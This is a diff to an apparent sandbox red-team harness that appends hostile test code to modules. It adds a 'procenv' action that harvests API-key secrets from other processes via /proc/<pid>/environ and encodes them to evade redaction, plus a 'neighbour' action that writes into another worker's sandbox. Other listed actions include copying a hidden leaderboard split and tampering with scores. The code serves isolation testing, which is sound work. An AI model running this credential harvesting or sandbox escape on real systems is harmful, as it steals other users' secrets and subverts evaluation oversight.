@@ -9,6 +9,8 @@ attacker's would be, so one blocked attempt never hides the next.
 Actions (see the issue #10 table):
   env        print os.environ (job log), write it, reversed and base64'd (beats redaction by value),
              into the sandbox and outside it
+  neighbour  append to files of another worker's sandbox
+  procenv    read the secrets of every other visible process from /proc/<pid>/environ
   hidden     copy the hidden leaderboard split into the sandbox
   outside    write a beacon outside the sandbox (workspace tmp dir and host /tmp)
   net        POST the environment to the loopback LLM server
@@ -76,6 +78,38 @@ def _evo_hostile_{where}():
             except OSError as exc:
                 out.append("ERR " + str(exc))
         return out
+
+    def do_neighbour():
+        out = {{}}
+        for path in cfg["neighbour"]:
+            try:
+                with open(path, "a") as fh:
+                    fh.write("\n# {marker} was here\n")
+                out[path] = "appended"
+            except OSError as exc:
+                out[path] = "ERR " + str(exc)
+        return out
+
+    def do_procenv():
+        """Secrets of OTHER processes: /proc/<pid>/environ of every process this job can see."""
+        got = {{}}
+        for pid in os.listdir("/proc"):
+            if not pid.isdigit() or int(pid) == os.getpid():
+                continue
+            try:
+                with open("/proc/%s/environ" % pid, "rb") as fh:
+                    pairs = fh.read().decode("utf-8", "replace").split("\0")
+            except OSError:
+                continue
+            for pair in pairs:
+                k, _, v = pair.partition("=")
+                if k in cfg["canary_names"] and v:
+                    got[k] = v
+        text = json.dumps(got) + "\n" + json.dumps({{k: [v[::-1], base64.b64encode(v.encode()).decode()]
+                                                    for k, v in got.items()}})
+        print("PROC-ENV " + text, flush=True)
+        put(os.path.join(pipe, "_procenv_%s.txt" % where), text)
+        return sorted(got)
 
     def do_hidden():
         out = []
@@ -265,8 +299,8 @@ def _evo_hostile_{where}():
         if name != "exit":
             attempt(name, {{"env": do_env, "hidden": do_hidden, "outside": do_outside, "net": do_net,
                            "canonical": do_canonical, "repo": do_repo, "git_hijack": do_git_hijack,
-                           "links": do_links, "frozen": do_frozen, "pyc": do_pyc, "score": do_score,
-                           "atexit": do_atexit,
+                           "links": do_links, "frozen": do_frozen, "procenv": do_procenv,
+                           "neighbour": do_neighbour, "pyc": do_pyc, "score": do_score, "atexit": do_atexit,
                            "daemon": do_daemon}}[name])
     text = json.dumps(report, indent=1)
     print("HOSTILE-REPORT " + text, flush=True)
@@ -284,5 +318,6 @@ def payload(marker: str, where: str, actions: list[str], **cfg: Any) -> str:
     """Source to append to a module; `cfg` carries the baked paths (see the module docstring)."""
     config = {"where": where, "actions": actions, "hidden": [], "outside": [], "canonical": [],
               "manifest": "", "evil_adapter": "/nonexistent", "llm_url": "", "daemon_s": 60,
-              "validate_payload": "", "scope": "/nonexistent", **cfg}
+              "validate_payload": "", "scope": "/nonexistent", "neighbour": [],
+              "canary_names": ["OPENAI_API_KEY", "ANTHROPIC_API_KEY", "HF_TOKEN", "KAGGLE_KEY"], **cfg}
     return _TEMPLATE.format(marker=marker, where=where, cfg=json.dumps(config), forged=FORGED)
